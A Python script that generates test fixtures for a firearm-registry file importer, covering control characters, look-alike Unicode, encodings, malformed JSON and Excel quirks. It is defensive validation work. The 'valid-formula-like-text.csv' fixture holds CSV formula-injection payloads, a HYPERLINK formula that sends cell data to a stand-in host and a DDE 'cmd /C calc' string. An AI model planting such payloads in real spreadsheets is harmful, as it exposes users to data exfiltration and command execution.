"""Writes the registry test files of this directory (run it again after changing a case).

    .venv/bin/python tests/data/registry/_make.py

Each file is one thing a registry export, a spreadsheet or a careless copy-paste really produces;
tests/unit/test_registry_files.py holds the exact message each must give.
"""

from __future__ import annotations

import json
from datetime import date
from pathlib import Path

HERE = Path(__file__).resolve().parent
HEADER = "mark_code,serial,make,model,caliber,owner\n"
GOOD1 = "PE-SUCAMEC-2026-000501,BXK501,Glock,17,9x19mm,Seguridad Andina SAC\n"


def csv(name: str, *rows: str, header: str = HEADER, encoding: str = "utf-8") -> None:
    (HERE / name).write_bytes((header + "".join(rows)).encode(encoding))


def row(
    code: str = "PE-SUCAMEC-2026-000502",
    serial: str = "CZ0502",
    make: str = "CZ",
    model: str = "75 B",
    caliber: str = "9x19mm",
    owner: str = "Seguridad Andina SAC",
) -> str:
    return ",".join((code, serial, make, model, caliber, owner)) + "\n"


def main() -> None:
    # controls and invisibles inside fields
    csv("control-nul-in-owner.csv", GOOD1, row(owner="Seguridad\x00Andina"))
    csv("control-tab-in-serial.csv", GOOD1, row(serial="CZ\t0502"))
    csv("control-escape-in-model.csv", GOOD1, row(model="75 B\x1b[2J\x1b[31mOK"))
    csv("control-backspace-in-make.csv", GOOD1, row(make="CZ\x08\x08Glock"))
    csv("control-delete-in-caliber.csv", GOOD1, row(caliber="9x19mm\x7f"))
    csv("control-c1-next-line-in-owner.csv", GOOD1, row(owner="Seguridad\x85Andina"))
    csv("line-separator-in-owner.csv", GOOD1, row(owner="Seguridad\u2028Andina"))
    csv("bidi-override-in-serial.csv", GOOD1, row(serial="\u202e2050ZC"))
    csv("zero-width-in-model.csv", GOOD1, row(model="75\u200b B"))
    # look-alikes in codes
    csv("lookalike-cyrillic-in-code.csv", GOOD1, row(code="PE-SUC\u0410MEC-2026-000502"))
    csv("lookalike-greek-in-code.csv", GOOD1, row(code="PE-SUCAMEC-2026-\u039f00502"))
    csv("lookalike-fullwidth-digit-in-code.csv", GOOD1, row(code="PE-SUCAMEC-2026-00050\uff12"))
    csv("lookalike-unicode-dash-in-code.csv", GOOD1, row(code="PE-SUCAMEC\u20102026-000502"))
    csv("code-leading-space.csv", GOOD1, row(code=" PE-SUCAMEC-2026-000502"))
    csv("code-trailing-no-break-space.csv", GOOD1, row(code="PE-SUCAMEC-2026-000502\u00a0"))
    csv("code-year-0000.csv", GOOD1, row(code="PE-SUCAMEC-0000-000502"))
    csv("code-year-9999.csv", GOOD1, row(code="PE-SUCAMEC-9999-000502"))
    csv("code-too-long.csv", GOOD1, row(code="PE-" + "A" * 70))
    csv("serial-too-long.csv", GOOD1, row(serial="S" * 65))
    # the same firearm, spelled differently
    csv(
        "same-firearm-unicode-hyphen.csv",
        row(serial="AB-123", make="Glock"),
        row(code="PE-SUCAMEC-2026-000503", serial="AB\u2010123", make="Glock"),
    )
    csv(
        "same-firearm-fullwidth.csv",
        row(serial="AB123", make="Glock"),
        row(code="PE-SUCAMEC-2026-000503", serial="\uff21\uff22\uff11\uff12\uff13", make="Glock"),
    )
    csv(
        "same-firearm-case-and-spaces.csv",
        row(serial="AB-123", make="Smith & Wesson"),
        row(code="PE-SUCAMEC-2026-000503", serial="ab 123", make="SMITH & WESSON"),
        row(code="PE-SUCAMEC-2026-000504", serial="a.b.1.2.3", make="smith & wesson"),
    )
    csv(
        "same-firearm-zero-width-space.csv",
        row(serial="AB123", make="Glock"),
        row(code="PE-SUCAMEC-2026-000503", serial="AB\u200b123", make="Glock"),
    )
    # encodings and delimiters
    csv("valid-utf16-bom.csv", GOOD1, row(owner="Armería Ñandú"), encoding="utf-16")
    (HERE / "utf16-no-bom.csv").write_bytes((HEADER + GOOD1).encode("utf-16-le"))
    csv(
        "valid-semicolon-spanish-excel.csv",
        "PE-SUCAMEC-2026-000501;BXK501;Glock;17;9x19mm;Armería Ñandú S.A.C.\n",
        header="mark_code;serial;make;model;caliber;owner\n",
    )
    import csv as csv_module
    import io

    buf = io.StringIO()
    w = csv_module.writer(buf, lineterminator="\n")
    w.writerow(HEADER.strip().split(","))
    w.writerow(
        [
            "PE-SUCAMEC-2026-000502",
            "CZ0502",
            "CZ",
            "75 B",
            "9x19mm",
            '=HYPERLINK("http://x.example/?"&A1,"click")',
        ]
    )
    w.writerow(["PE-SUCAMEC-2026-000503", "-CZ0503", "CZ", "75 B", "9x19mm", "+cmd|' /C calc'!A0"])
    w.writerow(["PE-SUCAMEC-2026-000504", "@SUM(1+1)", "-2+3", "=1+1", "9x19mm", "owner"])
    (HERE / "valid-formula-like-text.csv").write_text(buf.getvalue(), encoding="utf-8")
    # JSON that used to end in a traceback, or was accepted when it must not be
    item = {"mark_code": "SV-PNC-2026-000601", "make": "Beretta"}
    (HERE / "json-lone-surrogate.json").write_text(
        '[{"mark_code": "SV-PNC-2026-000601", "serial": "BER\\ud800601", "make": "Beretta"}]\n'
    )
    (HERE / "json-deep-nesting.json").write_text(
        '[{"mark_code": "SV-PNC-2026-000601", "serial": "BER601", "extra": '
        + "[" * 100_000
        + "]" * 100_000
        + "}]\n"
    )
    (HERE / "json-5000-digit-integer.json").write_text(
        '[{"mark_code": "SV-PNC-2026-000601", "serial": ' + "9" * 5000 + "}]\n"
    )
    (HERE / "json-serial-is-number.json").write_text(
        json.dumps(
            [
                {**item, "serial": 601},
                {
                    "mark_code": "SV-PNC-2026-000602",
                    "serial": "B602",
                    "make": "Beretta",
                    "model": 92,
                },
            ],
            indent=1,
        )
        + "\n"
    )
    (HERE / "json-serial-is-true.json").write_text(
        '[{"mark_code": "SV-PNC-2026-000601", "serial": true}]\n'
    )
    (HERE / "json-nan.json").write_text('[{"mark_code": "SV-PNC-2026-000601", "serial": NaN}]\n')
    (HERE / "json-duplicate-key-nested.json").write_text(
        '[{"mark_code": "SV-PNC-2026-000601", "serial": "B601", "permit": {"n": 1, "n": 2}}]\n'
    )
    (HERE / "json-duplicate-key-spelling.json").write_text(
        '[{"mark_code": "SV-PNC-2026-000601", "serial": "B601", "Serial": "B602"}]\n'
    )
    (HERE / "json-control-in-key.json").write_text(
        '[{"mark_code": "SV-PNC-2026-000601", "serial": "B601", "per\\u001bmit": "x"}]\n'
    )
    xlsx()


def xlsx() -> None:
    from openpyxl import Workbook

    head = ["mark_code", "serial", "make", "model", "caliber", "owner"]
    good = ["PE-SUCAMEC-2026-000701", "BXK701", "Glock", "17", "9x19mm", "Seguridad Andina SAC"]

    def book(name: str, rows: list[list[object]], sheet: str = "Registro") -> None:
        wb = Workbook()
        ws = wb.active
        assert ws is not None
        ws.title = sheet
        for r in [head, good, *rows]:
            ws.append(r)
        wb.save(HERE / name)

    book(
        "valid.xlsx", [["PE-SUCAMEC-2026-000702", "00702", "CZ", "75 B", "9x19mm", "Armería Ñandú"]]
    )
    book(
        "xlsx-serial-is-number.xlsx", [["PE-SUCAMEC-2026-000702", 702, "CZ", "75 B", "9x19mm", ""]]
    )
    book(
        "xlsx-serial-is-date.xlsx",
        [["PE-SUCAMEC-2026-000702", date(2026, 7, 2), "CZ", "75 B", "9x19mm", ""]],
    )
    book(
        "xlsx-formula.xlsx",
        [["PE-SUCAMEC-2026-000702", "CZ0702", "CZ", "75 B", "9x19mm", '=A2&"x"']],
    )
    book(
        "xlsx-lookalike-in-code.xlsx",
        [["PE-SUCAMEC-2026-0007\u041e2", "CZ0702", "CZ", "75 B", "9x19mm", ""]],
    )
    wb = Workbook()
    first = wb.active
    assert first is not None
    first.title = "Notas"
    first.append(["this sheet is not the registry"])
    second = wb.create_sheet("Registro")
    for r in [head, good]:
        second.append(r)
    wb.save(HERE / "xlsx-second-sheet.xlsx")


if __name__ == "__main__":
    main()
